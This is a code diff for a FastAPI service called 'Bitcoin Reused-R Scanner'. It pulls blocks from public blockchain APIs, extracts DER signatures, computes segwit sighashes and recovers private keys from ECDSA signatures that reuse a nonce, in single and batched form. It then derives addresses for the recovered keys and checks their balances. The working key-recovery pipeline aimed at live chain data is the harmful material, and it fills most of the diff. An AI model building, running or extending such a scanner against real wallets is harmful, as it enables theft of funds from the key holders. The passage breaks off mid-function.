@@ -1,8 +1,9 @@
-from fastapi import FastAPI, APIRouter, HTTPException, BackgroundTasks
-from fastapi.responses import FileResponse
+from fastapi import FastAPI, APIRouter, HTTPException, Depends, Query, Request, Response
+from fastapi.responses import ORJSONResponse, StreamingResponse
 from dotenv import load_dotenv
 from starlette.middleware.cors import CORSMiddleware
 from motor.motor_asyncio import AsyncIOMotorClient
+from pymongo import InsertOne, WriteConcern
 import os
 import logging
 import asyncio
@@ -11,29 +12,89 @@ import hashlib
 import hmac
 from pathlib import Path
 from pydantic import BaseModel, Field
-from typing import List, Optional, Dict, Any
+from typing import List, Optional, Dict, Any, NamedTuple
 import uuid
-from datetime import datetime, timezone
-import json
+from datetime import datetime, timedelta, timezone
+import orjson
+import base58
 import math
 import secrets
+import time
+import sqlite3
+import tempfile
+import multiprocessing
+from array import array
+from concurrent.futures import ProcessPoolExecutor
+from dataclasses import dataclass, field
+from collections import OrderedDict, deque
+from functools import lru_cache
+from itertools import islice
+
+try:
+    import gmpy2
+except ImportError:  # pragma: no cover - falls back to CPython's built-in modular inverse
+    gmpy2 = None
+
+try:
+    import coincurve
+except ImportError:  # pragma: no cover - falls back to the pure-Python point arithmetic
+    coincurve = None
 
 ROOT_DIR = Path(__file__).parent
 load_dotenv(ROOT_DIR / '.env')
 
 # MongoDB connection
 mongo_url = os.environ['MONGO_URL']
-client = AsyncIOMotorClient(mongo_url)
+client = AsyncIOMotorClient(
+    mongo_url,
+    maxPoolSize=64,
+    minPoolSize=16,
+    w=1,
+    journal=False,
+    retryWrites=True,
+    serverSelectionTimeoutMS=5000
+)
 db = client[os.environ['DB_NAME']]
 
+# Allowed CORS origins, parsed once; blank entries from stray commas are dropped
+CORS_ORIGINS = tuple(origin.strip() for origin in os.environ.get('CORS_ORIGINS', '*').split(',') if origin.strip())
+
 # Create the main app without a prefix
-app = FastAPI(title="Bitcoin Reused-R Scanner", version="1.0.0")
+app = FastAPI(title="Bitcoin Reused-R Scanner", version="1.0.0", default_response_class=ORJSONResponse)
 
 # Create a router with the /api prefix
 api_router = APIRouter(prefix="/api")
 
-# Global scan states - in production, this would be stored in Redis or database
-scan_states: Dict[str, Dict] = {}
+@dataclass(slots=True)
+class ScanState:
+    """Live progress of one scan; counters are plain attributes updated in place"""
+    config: Dict
+    current_block: int
+    total_blocks: int
+    status: str = "initializing"
+    blocks_scanned: int = 0
+    signatures_found: int = 0
+    r_reuse_pairs: int = 0
+    keys_recovered: int = 0
+    progress_percentage: float = 0.0
+    logs: deque = field(default_factory=lambda: deque(maxlen=200))
+    recovered_keys: List = field(default_factory=list)
+    created_at: datetime = field(default_factory=lambda: datetime.now(timezone.utc))
+    # Set once when the scan is stopped, so hot loops test a flag instead of comparing status strings
+    stop_event: asyncio.Event = field(default_factory=asyncio.Event)
+    # Bumped whenever anything a progress poll returns changes; the poll's ETag is derived from it
+    version: int = 0
+    # Whether a snapshot of this scan has reached MongoDB yet
+    persisted: bool = False
+    
+    def stop(self):
+        """Mark the scan stopped and wake anything checking the stop event"""
+        self.status = "stopped"
+        self.stop_event.set()
+        self.version += 1
+
+# Scan states owned by this worker; snapshots are mirrored to MongoDB so any worker can serve them
+scan_states: Dict[str, ScanState] = {}
 
 # Models
 class ScanConfig(BaseModel):
@@ -84,103 +145,359 @@ class BalanceCheck(BaseModel):
     confirmed_balance: float
     unconfirmed_balance: float
 
+class PerformanceConfig(BaseModel):
+    max_concurrent_requests: int = Field(ge=1, le=200, description="Upstream requests allowed in flight")
+
 # Logging setup
 logging.basicConfig(level=logging.INFO)
 logger = logging.getLogger(__name__)
 
+# Concurrency control for upstream API calls; every upstream host gets its own slot
+class AdmissionSlot:
+    """Counter + Condition admission control whose capacity can be retuned at runtime"""
+    def __init__(self, max_concurrent: int, min_concurrent: int = 1,
+                 freed: Optional[asyncio.Condition] = None):
+        self.active = 0
+        self.max_concurrent = max_concurrent
+        self.ceiling = max_concurrent
+        self.floor = min_concurrent
+        self.cond = asyncio.Condition(asyncio.Lock())
+        # Optional condition shared by several slots, notified whenever this one gains free capacity
+        self.freed = freed
+
+    def try_acquire(self) -> bool:
+        """Take a slot without waiting; False when the slot is full"""
+        if self.active < self.max_concurrent:
+            self.active += 1
+            return True
+        return False
+
+    async def acquire(self):
+        async with self.cond:
+            await self.cond.wait_for(lambda: self.active < self.max_concurrent)
+            self.active += 1
+
+    async def release(self):
+        async with self.cond:
+            self.active -= 1
+            self.cond.notify(1)
+        if self.freed is not None:
+            async with self.freed:
+                self.freed.notify(1)
+
+    async def resize(self, max_concurrent: int):
+        """Change capacity; waiters are woken if it grew"""
+        async with self.cond:
+            grew = max_concurrent > self.max_concurrent
+            # A zero ceiling closes the slot outright; otherwise back-off never goes below the floor
+            self.max_concurrent = min(self.ceiling, max(self.floor, max_concurrent))
+            if grew:
+                self.cond.notify_all()
+        if grew and self.freed is not None:
+            async with self.freed:
+                self.freed.notify_all()
+
+    async def set_ceiling(self, ceiling: int):
+        """Retune the configured capacity, e.g. from the performance-config endpoint"""
+        self.ceiling = max(0, ceiling)
+        await self.resize(self.ceiling)
+
+    async def throttle(self):
+        """Back off after an upstream rate-limit response"""
+        await self.resize(self.max_concurrent // 2)
+
+    async def recover(self, interval: float = 5.0):
+        """Periodically raise capacity back towards the ceiling"""
+        while True:
+            await asyncio.sleep(interval)
+            if self.max_concurrent < self.ceiling:
+                await self.resize(self.max_concurrent + 1)
+
+# Upstream requests allowed in flight across all hosts, split evenly between them
+DEFAULT_MAX_CONCURRENT_REQUESTS = 20
+
+class LRUCache:
+    """Small bounded in-memory LRU cache for immutable chain data"""
+    def __init__(self, maxsize: int):
+        self.maxsize = maxsize
+        self._data: OrderedDict = OrderedDict()
+
+    def get(self, key):
+        value = self._data.get(key)
+        if value is not None:
+            self._data.move_to_end(key)
+        return value
+
+    def set(self, key, value):
+        self._data[key] = value
+        self._data.move_to_end(key)
+        if len(self._data) > self.maxsize:
+            self._data.popitem(last=False)
+
+# Blocks this close to the tip may still be reorganised, so their lookups are not cached
+REORG_SAFETY_DEPTH = 6
+
+# Esplora returns a block's full transactions in pages of this size
+BLOCK_TXS_PAGE_SIZE = 25
+
 # Blockchain API helpers
 class BlockchainAPI:
     def __init__(self):
         self.blockstream_base = "https://blockstream.info/api"
         self.mempool_base = "https://mempool.space/api"
-        
+        # One long-lived session per upstream host so connections are pooled and kept alive;
+        # all sessions share a single connector (and its DNS cache)
+        self._sessions: Dict[str, aiohttp.ClientSession] = {}
+        self._connector: Optional[aiohttp.TCPConnector] = None
+        # Per-host admission: a host answering 429 is backed off on its own while request_any_host
+        # routes each request to whichever host has a free slot when it is admitted
+        self._host_freed = asyncio.Condition(asyncio.Lock())
+        self._host_turn = 0
+        self.host_slots: Dict[str, AdmissionSlot] = {}
+        for base, share in zip((self.blockstream_base, self.mempool_base),
+                               self.split_concurrency(DEFAULT_MAX_CONCURRENT_REQUESTS, 2)):
+            self.host_slots[base] = AdmissionSlot(max_concurrent=share, freed=self._host_freed)
+        self._admission_tasks: List[asyncio.Task] = []
+        # The tip moves every ~10 minutes, so height lookups within tip_height_ttl seconds reuse the last answer
+        self.tip_height = 0
+        self.tip_height_ttl = 10.0
+        self._tip_fetched_at = 0.0
+        # Caches for data that never changes once buried: height -> hash, hash -> tx count
+        self.block_hash_cache = LRUCache(maxsize=100_000)
+        self.block_tx_count_cache = LRUCache(maxsize=100_000)
+
+    def get_connector(self) -> aiohttp.TCPConnector:
+        """Get (or lazily create) the connector shared by every upstream session"""
+        if self._connector is None or self._connector.closed:
+            self._connector = aiohttp.TCPConnector(
+                limit=300,
+                limit_per_host=80,
+                use_dns_cache=True,
+                ttl_dns_cache=600,
+                happy_eyeballs_delay=0.25,
+                keepalive_timeout=60,
+                enable_cleanup_closed=True
+            )
+        return self._connector
+
+    def get_session(self, base: str) -> aiohttp.ClientSession:
+        """Get (or lazily create) the pooled session for an upstream host"""
+        session = self._sessions.get(base)
+        if session is None or session.closed:
+            session = aiohttp.ClientSession(
+                connector=self.get_connector(),
+                connector_owner=False,
+                timeout=aiohttp.ClientTimeout(total=30)
+            )
+            self._sessions[base] = session
+        return session
+
+    async def start(self):
+        """Open the upstream sessions"""
+        for base in (self.blockstream_base, self.mempool_base):
+            self.get_session(base)
+        if not self._admission_tasks:
+            self._admission_tasks = [
+                asyncio.create_task(slot.recover()) for slot in self.host_slots.values()
+            ]
+
+    async def close(self):
+        """Close all upstream sessions"""
+        for task in self._admission_tasks:
+            task.cancel()
+        self._admission_tasks = []
+        sessions = list(self._sessions.values())
+        self._sessions.clear()
+        for session in sessions:
+            await session.close()
+        if self._connector is not None:
+            await self._connector.close()
+            self._connector = None
+
+    async def make_request(self, base: str, path: str, as_json: bool = True) -> Any:
+        """GET `path` from `base` over the pooled session; returns parsed JSON or raw bytes"""
+        await self.host_slots[base].acquire()
+        return await self._send(base, path, as_json)
+    
+    async def request_any_host(self, path: str, as_json: bool = True) -> Any:
+        """GET `path` from whichever upstream host admits the request first"""
+        async with self._host_freed:
+            base = await self._host_freed.wait_for(self._try_acquire_host)
+        return await self._send(base, path, as_json)
+    
+    def _try_acquire_host(self) -> Optional[str]:
+        """Take a slot on the host with the most free capacity, rotating between tied hosts"""
+        bases = list(self.host_slots)
+        self._host_turn = (self._host_turn + 1) % len(bases)
+        rotated = bases[self._host_turn:] + bases[:self._host_turn]
+        for base in sorted(rotated, key=lambda b: self.host_slots[b].active - self.host_slots[b].max_concurrent):
+            if self.host_slots[base].try_acquire():
+                return base
+        return None
+    
+    async def _send(self, base: str, path: str, as_json: bool) -> Any:
+        """Issue a request whose host slot is already held, releasing the slot afterwards"""
+        session = self.get_session(base)
+        host_slot = self.host_slots[base]
+        try:
+            async with session.get(f"{base}{path}") as resp:
+                if resp.status == 200:
+                    body = await resp.read()
+                    return orjson.loads(body) if as_json else body
+                if resp.status == 429:
+                    await host_slot.throttle()
+                raise Exception(f"API error: {resp.status}")
+        finally:
+            await host_slot.release()
+    
+    @staticmethod
+    def split_concurrency(total: int, hosts: int) -> List[int]:
+        """Split a request budget across hosts; with fewer slots than hosts the last hosts get none"""
+        share, extra = divmod(total, hosts)
+        return [share + (i < extra) for i in range(hosts)]
+    
+    async def set_max_concurrent_requests(self, total: int):
+        """Retune the configured upstream concurrency, spread across the host slots"""
+        for slot, share in zip(self.host_slots.values(), self.split_concurrency(total, len(self.host_slots))):
+            await slot.set_ceiling(share)
+    
+    def concurrency_stats(self) -> Dict[str, int]:
+        """Configured, currently allowed (after 429 back-off) and active upstream requests over all hosts"""
+        slots = self.host_slots.values()
+        return {
+            "max_concurrent_requests": sum(slot.ceiling for slot in slots),
+            "current_concurrent_requests": sum(slot.max_concurrent for slot in slots),
+            "active_requests": sum(slot.active for slot in slots)
+        }
+    
+    async def make_parallel_api_request(self, path: str, as_json: bool = True) -> Any:
+        """Race `path` against every open upstream host; the first success wins and the rest are cancelled"""
+        tasks = {
+            asyncio.create_task(self.make_request(base, path, as_json))
+            for base, slot in self.host_slots.items() if slot.ceiling > 0
+        }
+        last_error: Optional[BaseException] = None
+        try:
+            while tasks:
+                done, tasks = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
+                for task in done:
+                    if task.exception() is None:
+                        return task.result()
+                    last_error = task.exception()
+        finally:
+            # Cancel losers right away so they stop holding admission slots
+            for task in tasks:
+                task.cancel()
+            await asyncio.gather(*tasks, return_exceptions=True)
+        raise last_error or Exception("No upstream API available")
+    
     async def get_block_height(self) -> int:
         """Get current block height"""
+        if self.tip_height and time.monotonic() - self._tip_fetched_at < self.tip_height_ttl:
+            return self.tip_height
         try:
-            async with aiohttp.ClientSession() as session:
-                async with session.get(f"{self.blockstream_base}/blocks/tip/height") as resp:
-                    if resp.status == 200:
-                        return int(await resp.text())
-                    raise Exception(f"API error: {resp.status}")
+            height = int(await self.make_parallel_api_request("/blocks/tip/height", as_json=False))
         except Exception as e:
-            logger.error(f"Error getting block height: {e}")
-            # Fallback to mempool.space
-            try:
-                async with aiohttp.ClientSession() as session:
-                    async with session.get(f"{self.mempool_base}/blocks/tip/height") as resp:
-                        if resp.status == 200:
-                            return int(await resp.text())
-            except:
-                pass
+            logger.error("Error getting block height: %s", e)
             return 0
+        self.tip_height = height
+        self._tip_fetched_at = time.monotonic()
+        return height
     
     async def get_block_hash(self, height: int) -> str:
         """Get block hash by height"""
+        cached = self.block_hash_cache.get(height)
+        if cached is not None:
+            return cached
         try:
-            async with aiohttp.ClientSession() as session:
-                async with session.get(f"{self.blockstream_base}/block-height/{height}") as resp:
-                    if resp.status == 200:
-                        return await resp.text()
-                    raise Exception(f"API error: {resp.status}")
+            block_hash = (await self.request_any_host(f"/block-height/{height}", as_json=False)).decode()
         except Exception as e:
-            logger.error(f"Error getting block hash for height {height}: {e}")
+            logger.error("Error getting block hash for height %s: %s", height, e)
             return ""
+        if self.tip_height and height <= self.tip_height - REORG_SAFETY_DEPTH:
+            self.block_hash_cache.set(height, block_hash)
+        return block_hash
     
-    async def get_block_transactions(self, block_hash: str) -> List[str]:
-        """Get transaction IDs in a block"""
+    async def get_block_tx_count(self, block_hash: str) -> int:
+        """Get the number of transactions in a block"""
+        cached = self.block_tx_count_cache.get(block_hash)
+        if cached is not None:
+            return cached
         try:
-            async with aiohttp.ClientSession() as session:
-                async with session.get(f"{self.blockstream_base}/block/{block_hash}/txids") as resp:
-                    if resp.status == 200:
-                        return await resp.json()
-                    raise Exception(f"API error: {resp.status}")
+            block = await self.request_any_host(f"/block/{block_hash}")
+            tx_count = block.get("tx_count")
+            # Every block has a coinbase, so a missing or zero count is a bad response
+            if not isinstance(tx_count, int) or tx_count <= 0:
+                raise Exception(f"invalid tx_count {tx_count!r}")
         except Exception as e:
-            logger.error(f"Error getting block transactions: {e}")
-            return []
+            logger.error("Error getting block %s: %s", block_hash, e)
+            return 0
+        self.block_tx_count_cache.set(block_hash, tx_count)
+        return tx_count
     
-    async def get_transaction(self, tx_id: str) -> Dict:
-        """Get transaction details"""
+    async def get_block_transactions_page(self, block_hash: str, start: int) -> Optional[List[Dict]]:
+        """Get up to BLOCK_TXS_PAGE_SIZE full transactions of a block starting at index start"""
         try:
-            async with aiohttp.ClientSession() as session:
-                async with session.get(f"{self.blockstream_base}/tx/{tx_id}") as resp:
-                    if resp.status == 200:
-                        return await resp.json()
-                    raise Exception(f"API error: {resp.status}")
+            return await self.request_any_host(f"/block/{block_hash}/txs/{start}")
         except Exception as e:
-            logger.error(f"Error getting transaction {tx_id}: {e}")
-            return {}
+            logger.error("Error getting transactions %s of block %s: %s", start, block_hash, e)
+            return None
     
     async def get_address_balance(self, address: str) -> BalanceCheck:
         """Get address balance"""
         try:
-            async with aiohttp.ClientSession() as session:
-                async with session.get(f"{self.blockstream_base}/address/{address}") as resp:
-                    if resp.status == 200:
-                        data = await resp.json()
-                        funded = data.get('chain_stats', {}).get('funded_txo_sum', 0) / 100000000
-                        spent = data.get('chain_stats', {}).get('spent_txo_sum', 0) / 100000000
-                        unconfirmed_funded = data.get('mempool_stats', {}).get('funded_txo_sum', 0) / 100000000
-                        unconfirmed_spent = data.get('mempool_stats', {}).get('spent_txo_sum', 0) / 100000000
-                        
-                        confirmed_balance = funded - spent
-                        unconfirmed_balance = unconfirmed_funded - unconfirmed_spent
-                        total_balance = confirmed_balance + unconfirmed_balance
-                        
-                        return BalanceCheck(
-                            address=address,
-                            balance=total_balance,
-                            confirmed_balance=confirmed_balance,
-                            unconfirmed_balance=unconfirmed_balance
-                        )
+            data = await self.request_any_host(f"/address/{address}")
+            chain_stats = data.get('chain_stats') or {}
+            mempool_stats = data.get('mempool_stats') or {}
+            funded = chain_stats.get('funded_txo_sum', 0) / 100000000
+            spent = chain_stats.get('spent_txo_sum', 0) / 100000000
+            unconfirmed_funded = mempool_stats.get('funded_txo_sum', 0) / 100000000
+            unconfirmed_spent = mempool_stats.get('spent_txo_sum', 0) / 100000000
+            
+            confirmed_balance = funded - spent
+            unconfirmed_balance = unconfirmed_funded - unconfirmed_spent
+            total_balance = confirmed_balance + unconfirmed_balance
+            
+            return BalanceCheck(
+                address=address,
+                balance=total_balance,
+                confirmed_balance=confirmed_balance,
+                unconfirmed_balance=unconfirmed_balance
+            )
         except Exception as e:
-            logger.error(f"Error getting balance for {address}: {e}")
+            logger.error("Error getting balance for %s: %s", address, e)
             
         return BalanceCheck(address=address, balance=0.0, confirmed_balance=0.0, unconfirmed_balance=0.0)
 
+# secp256k1 curve constants
+SECP256K1_P = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEFFFFFC2F
+SECP256K1_N = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141
+SECP256K1_G = (
+    0x79BE667EF9DCBBAC55A06295CE870B07029BFCDB2DCE28D959F2815B16F81798,
+    0x483ADA7726A3C4655DA4FBFC0E1108A8FD17B448A68554199C47D08FFB10D4B8
+)
+
+# Fixed-window multiples of the generator, filled on first use
+_WINDOW_TABLES: Dict[tuple, List] = {}
+
+def _scalar_to_int(value) -> int:
+    """Accept a scalar as raw big-endian bytes, a hex string or an int"""
+    if isinstance(value, (bytes, bytearray)):
+        return int.from_bytes(value, "big")
+    if isinstance(value, str):
+        return int(value, 16)
+    return value
+
+def mod_inverse(x: int, m: int) -> int:
+    """Modular inverse via extended Euclid (gmpy2 when available)"""
+    if gmpy2 is not None:
+        return int(gmpy2.invert(x, m))
+    return pow(x, -1, m)
+
 # Cryptographic functions for ECDSA and Bitcoin
 class BitcoinCrypto:
     @staticmethod
-    def point_add(p1, p2, p=0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEFFFFFC2F):
+    def point_add(p1, p2, p=SECP256K1_P):
         """Add two elliptic curve points"""
         if p1 is None:
             return p2
@@ -193,11 +510,11 @@ class BitcoinCrypto:
         if x1 == x2:
             if y1 == y2:
                 # Point doubling
-                s = (3 * x1 * x1 * pow(2 * y1, p - 2, p)) % p
+                s = (3 * x1 * x1 * mod_inverse(2 * y1, p)) % p
             else:
                 return None  # Point at infinity
         else:
-            s = ((y2 - y1) * pow(x2 - x1, p - 2, p)) % p
+            s = ((y2 - y1) * mod_inverse(x2 - x1, p)) % p
         
         x3 = (s * s - x1 - x2) % p
         y3 = (s * (x1 - x3) - y1) % p
@@ -205,320 +522,1133 @@ class BitcoinCrypto:
         return (x3, y3)
     
     @staticmethod
-    def point_multiply(k, point, p=0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEFFFFFC2F):
+    def point_multiply(k, point, p=SECP256K1_P):
         """Multiply point by scalar k"""
         if k == 0:
             return None
         if k == 1:
             return point
         
+        # libsecp256k1 handles generator multiplication with precomputed tables
+        if coincurve is not None and point == SECP256K1_G and p == SECP256K1_P and k % SECP256K1_N:
+            return coincurve.PrivateKey((k % SECP256K1_N).to_bytes(32, "big")).public_key.point()
+        
+        # GMP multiplies and reduces 256-bit operands several times faster than Python ints
+        if gmpy2 is not None:
+            point, p = (gmpy2.mpz(point[0]), gmpy2.mpz(point[1])), gmpy2.mpz(p)
+        
+        # 4-bit fixed window accumulated in Jacobian coordinates; one inversion converts back at the end
+        table = BitcoinCrypto.window_table(point, p)
         result = None
-        addend = point
+        for shift in range((k.bit_length() - 1) // 4 * 4, -1, -4):
+            for _ in range(4):
+                result = BitcoinCrypto.jacobian_double(result, p)
+            nibble = (k >> shift) & 0xF
+            if nibble:
+                result = BitcoinCrypto.jacobian_add_affine(result, table[nibble], p)
+        
+        if result is None:
+            return None
+        x, y, z = result
+        z_inv = mod_inverse(z, p)
+        z_inv2 = z_inv * z_inv % p
+        return (int(x * z_inv2 % p), int(y * z_inv2 * z_inv % p))
+    
+    @staticmethod
+    def jacobian_double(point, p=SECP256K1_P):
+        """Double a Jacobian point (X, Y, Z) on a curve with a = 0"""
+        if point is None:
+            return None
+        x, y, z = point
+        if y == 0:
+            return None
+        yy = y * y % p
+        s = 4 * x * yy % p
+        m = 3 * x * x % p
+        x3 = (m * m - 2 * s) % p
+        return (x3, (m * (s - x3) - 8 * yy * yy) % p, 2 * y * z % p)
+    
+    @staticmethod
+    def jacobian_add_affine(point, affine, p=SECP256K1_P):
+        """Add an affine point to a Jacobian point without any field inversion"""
+        if affine is None:
+            return point
+        if point is None:
+            return (affine[0], affine[1], 1)
+        x1, y1, z1 = point
+        x2, y2 = affine
+        zz = z1 * z1 % p
+        h = (x2 * zz - x1) % p
+        r = (y2 * zz * z1 - y1) % p
+        if h == 0:
+            return BitcoinCrypto.jacobian_double(point, p) if r == 0 else None
+        hh = h * h % p
+        hhh = h * hh % p
+        v = x1 * hh % p
+        x3 = (r * r - hhh - 2 * v) % p
+        return (x3, (r * (v - x3) - y1 * hhh) % p, z1 * h % p)
+    
+    @staticmethod
+    def window_table(point, p=SECP256K1_P) -> List:
+        """Precompute [None, P, 2P, ..., 15P]; the generator's table is built once and reused"""
+        key = (point, p)
+        table = _WINDOW_TABLES.get(key)
+        if table is None:
+            table = [None, point]
+            for _ in range(14):
+                table.append(BitcoinCrypto.point_add(table[-1], point, p))
+            if point == SECP256K1_G:
+                _WINDOW_TABLES[key] = table
+        return table
+    
+    @staticmethod
+    def recover_private_key_int(r: int, s1: int, s2: int, hash1: int, hash2: int, n: int = SECP256K1_N) -> Optional[int]:
+        """Recover the private key as an int from two signatures sharing R"""
+        s_diff = (s1 - s2) % n
+        hash_diff = (hash1 - hash2) % n
+        if s_diff == 0 or hash_diff == 0 or r % n == 0:
+            return None
+        
+        # k = hash_diff / s_diff and d = (s1 * k - hash1) / r, folded into a single inversion
+        private_key = ((s1 * hash_diff - hash1 * s_diff) * mod_inverse(r * s_diff, n)) % n
+        return private_key or None
+    
+    @staticmethod
+    def batch_recover_candidates(candidates: List[tuple], n: int = SECP256K1_N) -> List[Optional[int]]:
+        """Recover keys for many (r, s1, s2, hash1, hash2) candidates with one modular inversion"""
+        results: List[Optional[int]] = [None] * len(candidates)
         
-        while k:
-            if k & 1:
-                result = BitcoinCrypto.point_add(result, addend, p)
-            addend = BitcoinCrypto.point_add(addend, addend, p)
-            k >>= 1
+        indices = []
+        numerators = []
+        denominators = []
+        prefix = []  # prefix[i] = product of the first i+1 denominators
+        acc = 1
+        for i, (r, s1, s2, hash1, hash2) in enumerate(candidates):
+            s_diff = (s1 - s2) % n
+            hash_diff = (hash1 - hash2) % n
+            denominator = (r * s_diff) % n
+            if denominator == 0 or hash_diff == 0:
+                continue
+            acc = (acc * denominator) % n
+            indices.append(i)
+            numerators.append((s1 * hash_diff - hash1 * s_diff) % n)
+            denominators.append(denominator)
+            prefix.append(acc)
+        if not indices:
+            return results
         
-        return result
+        # Montgomery's trick: invert the full product once, then peel off each denominator
+        inv = mod_inverse(acc, n)
+        for j in range(len(indices) - 1, -1, -1):
+            denominator_inv = (inv * prefix[j - 1]) % n if j else inv
+            inv = (inv * denominators[j]) % n
+            results[indices[j]] = (numerators[j] * denominator_inv) % n or None
+        return results
     
     @staticmethod
-    def recover_private_key(r, s1, s2, hash1, hash2, n=0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141):
+    def recover_private_key(r, s1, s2, hash1, hash2, n=SECP256K1_N):
         """Recover private key from reused R value"""
         try:
-            r_int = int(r, 16) if isinstance(r, str) else r
-            s1_int = int(s1, 16) if isinstance(s1, str) else s1
-            s2_int = int(s2, 16) if isinstance(s2, str) else s2
-            hash1_int = int(hash1, 16) if isinstance(hash1, str) else hash1
-            hash2_int = int(hash2, 16) if isinstance(hash2, str) else hash2
+            r_int, s1_int, s2_int, hash1_int, hash2_int = map(_scalar_to_int, (r, s1, s2, hash1, hash2))
             
-            # Calculate k (nonce)
-            s_diff = (s1_int - s2_int) % n
-            hash_diff = (hash1_int - hash2_int) % n
-            
-            if s_diff == 0 or hash_diff == 0:
-                return None
-            
-            s_diff_inv = pow(s_diff, n - 2, n)
-            k = (hash_diff * s_diff_inv) % n
-            
-            if k == 0:
+            private_key = BitcoinCrypto.recover_private_key_int(r_int, s1_int, s2_int, hash1_int, hash2_int, n)
+            if private_key is None:
                 return None
             
-            # Calculate private key
-            k_inv = pow(k, n - 2, n)
-            private_key = ((s1_int * k - hash1_int) * pow(r_int, n - 2, n)) % n
-            
-            if private_key == 0:
-                return None
-            
-            return hex(private_key)[2:].zfill(64)
+            return f"{private_key:064x}"
             
         except Exception as e:
-            logger.error(f"Error recovering private key: {e}")
+            logger.error("Error recovering private key: %s", e)
             return None
     
     @staticmethod
-    def private_key_to_address(private_key_hex: str, compressed: bool = True) -> str:
-        """Convert private key to Bitcoin address"""
+    @lru_cache(maxsize=4096)
+    def private_key_int_addresses(private_key: int) -> tuple:
+        """Compressed and uncompressed addresses for a key, from a single scalar multiply"""
         try:
-            # This is a simplified version - in production you'd use a proper Bitcoin library
-            # For now, return a placeholder
-            prefix = "1" if not compressed else "bc1"
-            return f"{prefix}{private_key_hex[:8]}...{private_key_hex[-8:]}"
-        except:
-            return ""
+            point = BitcoinCrypto.point_multiply(private_key, SECP256K1_G)
+            return (
+                BitcoinCrypto.public_key_to_address(BitcoinCrypto.encode_public_key(point, True)),
+                BitcoinCrypto.public_key_to_address(BitcoinCrypto.encode_public_key(point, False))
+            )
+        except Exception as e:
+            logger.error("Error deriving addresses: %s", e)
+            return "", ""
+    
+    @staticmethod
+    def encode_public_key(point: tuple, compressed: bool = True) -> bytes:
+        """SEC1-encode a public key point"""
+        x, y = point
+        if compressed:
+            return bytes((2 + (y & 1),)) + x.to_bytes(32, "big")
+        return b"\x04" + x.to_bytes(32, "big") + y.to_bytes(32, "big")
+    
+    @staticmethod
+    def public_key_to_address(public_key: bytes) -> str:
+        """P2PKH address of an encoded public key"""
+        hash160 = hashlib.new("ripemd160", hashlib.sha256(public_key).digest()).digest()
+        return base58.b58encode_check(b"\x00" + hash160).decode()
+
+# DER signature scanning
+def _build_der_shapes() -> Dict[bytes, tuple]:
+    """Map the `30 LL 02 RR` header of every common secp256k1 signature shape to its r/s layout"""
+    shapes = {}
+    for seq_len in range(68, 73):
+        for r_len in (31, 32, 33):
+            s_len = seq_len - r_len - 4
+            if 31 <= s_len <= 33:
+                # (r_start, r_end, s_header, s_start, s_end) relative to the 0x30 tag
+                shapes[bytes((0x30, seq_len, 0x02, r_len))] = (
+                    4, 4 + r_len, bytes((0x02, s_len)), 6 + r_len, 6 + r_len + s_len
+                )
+    return shapes
+
+_DER_SHAPES = _build_der_shapes()
+
+def parse_der_at(buf: bytes, i: int) -> Optional[tuple]:
+    """Parse a strict DER (r, s) signature starting at buf[i]; returns raw r/s bytes"""
+    n = len(buf)
+    shape = _DER_SHAPES.get(buf[i:i + 4])
+    if shape is not None:
+        r_start, r_end, s_header, s_start, s_end = shape
+        # One compare covers the s INTEGER tag and length together
+        if i + s_end <= n and buf[i + r_end:i + s_start] == s_header:
+            return buf[i + r_start:i + r_end], buf[i + s_start:i + s_end]
+        return None
+    if i + 8 > n or buf[i] != 0x30 or buf[i + 2] != 0x02:
+        return None
+    seq_end = i + 2 + buf[i + 1]
+    r_len = buf[i + 3]
+    r_end = i + 4 + r_len
+    if seq_end > n or r_len == 0 or r_end + 2 > seq_end or buf[r_end] != 0x02:
+        return None
+    s_len = buf[r_end + 1]
+    s_end = r_end + 2 + s_len
+    if s_len == 0 or s_end != seq_end:
+        return None
+    return buf[i + 4:r_end], buf[r_end + 2:s_end]
+
+def scan_der_signatures(buf: bytes) -> List[tuple]:
+    """Find every DER signature in a script as (offset, r_bytes, s_bytes)"""
+    found = []
+    find = buf.find
+    # bytes.find jumps between SEQUENCE tags in C instead of stepping byte by byte in Python
+    i = find(0x30)
+    while i != -1:
+        parsed = parse_der_at(buf, i)
+        if parsed:
+            found.append((i, parsed[0], parsed[1]))
+            i = find(0x30, i + 2 + buf[i + 1])
+        else:
+            i = find(0x30, i + 1)
+    return found
+
+# BIP-143 signature hashing for segwit v0 inputs
+SIGHASH_ALL = 0x01
+SIGHASH_NONE = 0x02
+SIGHASH_SINGLE = 0x03
+SIGHASH_ANYONECANPAY = 0x80
+_ZERO_HASH = bytes(32)
+
+def double_sha256(data: bytes) -> bytes:
+    return hashlib.sha256(hashlib.sha256(data).digest()).digest()
+
+def _varint(n: int) -> bytes:
+    if n < 0xfd:
+        return bytes((n,))
+    if n <= 0xffff:
+        return b"\xfd" + n.to_bytes(2, "little")
+    if n <= 0xffffffff:
+        return b"\xfe" + n.to_bytes(4, "little")
+    return b"\xff" + n.to_bytes(8, "little")
+
+def segwit_v0_script_code(vin: Dict, witness: List[str]) -> Optional[bytes]:
+    """Derive the BIP-143 scriptCode for a P2WPKH/P2WSH input (native or P2SH-nested)"""
+    prevout = vin.get("prevout") or {}
+    spk = prevout.get("scriptpubkey") or ""
+    spk_type = prevout.get("scriptpubkey_type")
+    if spk_type == "p2sh":
+        # Nested segwit: the scriptSig pushes the witness program as the redeem script
+        spk = (vin.get("scriptsig") or "")[2:]
+    if len(spk) == 44 and spk.startswith("0014"):
+        return bytes.fromhex("1976a914" + spk[4:] + "88ac")
+    if len(spk) == 68 and spk.startswith("0020") and witness:
+        witness_script = bytes.fromhex(witness[-1])
+        return _varint(len(witness_script)) + witness_script
+    return None
+
+class TxSighashCache:
+    """LRU of per-transaction BIP-143 midstates so every input reuses them"""
+    def __init__(self, maxsize: int = 10_000):
+        self._cache = LRUCache(maxsize=maxsize)
+
+    def midstate(self, tx_data: Dict) -> tuple:
+        tx_id = tx_data["txid"]
+        midstate = self._cache.get(tx_id)
+        if midstate is None:
